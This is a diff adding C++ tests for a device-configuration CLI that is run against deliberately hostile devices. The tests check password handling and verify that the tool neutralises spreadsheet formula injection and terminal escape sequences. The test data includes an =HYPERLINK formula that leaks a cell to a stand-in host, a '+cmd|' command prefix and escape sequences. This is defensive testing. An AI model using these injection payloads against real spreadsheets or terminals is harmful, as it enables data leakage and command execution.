@@ -727,3 +727,96 @@ TEST(CliBatch, FortyDevicesPlannedAppliedAndConfirmed) {
         EXPECT_EQ(device["hostName"].toString(), host);
     }
 }
+
+// Run by its own lab of devices with hostile texts and awkward passwords
+// (hostile-devices.json, see CMakeLists.txt).
+namespace {
+
+const QByteArray kHostileSecrets = "mac,user,password\r\n"
+                                   "02-4B-56-00-0E-01,admin,\"Pa,ss\"\r\n"
+                                   "02-4B-56-00-0E-02,admin,\"say \"\"hi\"\"\"\r\n"
+                                   "02-4B-56-00-0E-03,admin,gr\xc3\xbcn\r\n"
+                                   "02-4B-56-00-0E-04,admin,secret \r\n";
+
+} // namespace
+
+TEST(CliHostile, SecretsFileCellsReachTheDevicesAsTyped) {
+    QTemporaryFile plan, secrets;
+    const QString planPath = planFile(plan, "mac,new_guest\n02-4B-56-00-0E-01,yes\n"
+                                            "02-4B-56-00-0E-02,yes\n02-4B-56-00-0E-03,yes\n"
+                                            "02-4B-56-00-0E-04,yes\n");
+    const QString secretsPath = secretFile(secrets, kHostileSecrets);
+
+    // Refused before anything is sent: a file others may read, a file
+    // without its header line (whose message must not repeat a password).
+    std::size_t logStart = logLines().size();
+    QFile::setPermissions(secretsPath, QFile::ReadOwner | QFile::WriteOwner | QFile::ReadGroup |
+                                           QFile::ReadOther);
+    CliRun run = cli({"apply", planPath, "--secrets", secretsPath, "--seconds", "2"});
+    EXPECT_EQ(run.code, 64) << describe(run);
+    EXPECT_TRUE(run.err.contains("chmod 600")) << describe(run);
+    QTemporaryFile headless;
+    run = cli({"apply", planPath, "--secrets",
+               secretFile(headless, "02-4B-56-00-0E-04,admin,Hunter2!Secret\n"), "--seconds", "2"});
+    EXPECT_EQ(run.code, 64) << describe(run);
+    EXPECT_TRUE(run.err.contains("row 1: cell 1 is not a column name")) << describe(run);
+    EXPECT_FALSE(run.err.contains("Hunter2") || run.out.contains("Hunter2")) << describe(run);
+    QThread::msleep(200);
+    EXPECT_TRUE(requestsSince(logStart).empty()) << "a refused run sent something";
+
+    QFile::setPermissions(secretsPath, QFile::ReadOwner | QFile::WriteOwner);
+    logStart = logLines().size();
+    run = cli({"apply", planPath, "--secrets", secretsPath, "--seconds", "3"});
+    EXPECT_EQ(run.code, 0) << describe(run);
+    std::map<QString, QByteArray> sent;
+    for (const QJsonObject &request : requestsSince(logStart, {5}))
+        sent[request["device"].toString()] = request["password"].toString().toLatin1();
+    const std::map<QString, QByteArray> typed = {{"02:4b:56:00:0e:01", "Pa,ss"},
+                                                 {"02:4b:56:00:0e:02", "say \"hi\""},
+                                                 {"02:4b:56:00:0e:03", "gr\xfcn"},
+                                                 {"02:4b:56:00:0e:04", "secret "}};
+    EXPECT_EQ(sent, typed);
+    EXPECT_EQ(run.out.count("applied and confirmed"), 4) << describe(run);
+}
+
+TEST(CliHostile, DeviceTextsStayInertInSpreadsheetsAndTerminals) {
+    CliRun run = cli({"plan", "--seconds", "2"});
+    ASSERT_EQ(run.code, 0) << describe(run);
+    EXPECT_TRUE(run.out.contains("\"'=HYPERLINK(\"\"http://e/\"\"&A1,\"\"x\"\")\",'+cmd|"))
+        << describe(run);
+    EXPECT_TRUE(run.out.contains(",'@SUM(1+1),")) << describe(run);
+    EXPECT_TRUE(run.out.contains(",'-cam,")) << describe(run);
+    for (const auto &record : parseCsv(run.out))
+        for (const QByteArray &cell : record)
+            EXPECT_FALSE(cell.startsWith('=') || cell.startsWith('+') || cell.startsWith('@') ||
+                         cell.startsWith('-'))
+                << cell.toStdString();
+
+    // The plan goes back unchanged but for a new guest setting per device.
+    QByteArray edited = run.out;
+    edited.replace(",yes,,,,,,,,\n", ",yes,,,,,,,,no\n")
+        .replace(",no,,,,,,,,\n", ",no,,,,,,,,yes\n");
+    ASSERT_EQ(edited.count(",no\n") + edited.count(",yes\n"), 4) << edited.toStdString();
+    QTemporaryFile plan, secrets;
+    const std::size_t logStart = logLines().size();
+    run = cli({"apply", planFile(plan, edited), "--dry-run", "--secrets",
+               secretFile(secrets, kHostileSecrets), "--seconds", "2"});
+    EXPECT_EQ(run.code, 0) << describe(run);
+    EXPECT_EQ(run.out.count("guest       no -> yes") + run.out.count("guest       yes -> no"), 4)
+        << describe(run);
+    EXPECT_TRUE(run.out.contains("?]0;TITLE??[31m")) << describe(run);
+    EXPECT_TRUE(run.out.contains("KV?2J")) << describe(run);
+    EXPECT_FALSE(run.out.contains('\033') || run.out.contains("\xc2\x9b") ||
+                 run.out.contains('\x9b') || run.out.contains('\a'))
+        << describe(run);
+
+    // A host name pattern does not copy a formula into the plan; the scan's
+    // CSV, for programs, stays exact.
+    run = cli({"plan", "--seconds", "2", "--hostname-pattern", "{serial}"});
+    EXPECT_EQ(run.code, 64) << describe(run);
+    EXPECT_TRUE(run.err.contains("would be '@SUM(1+1)': starts with '@'")) << describe(run);
+    run = cli({"scan", "--format", "csv", "--seconds", "2"});
+    EXPECT_TRUE(run.out.contains(",@SUM(1+1),")) << describe(run);
+    QThread::msleep(200);
+    EXPECT_TRUE(requestsSince(logStart, {4, 5}).empty()) << "the dry run sent a request";
+}
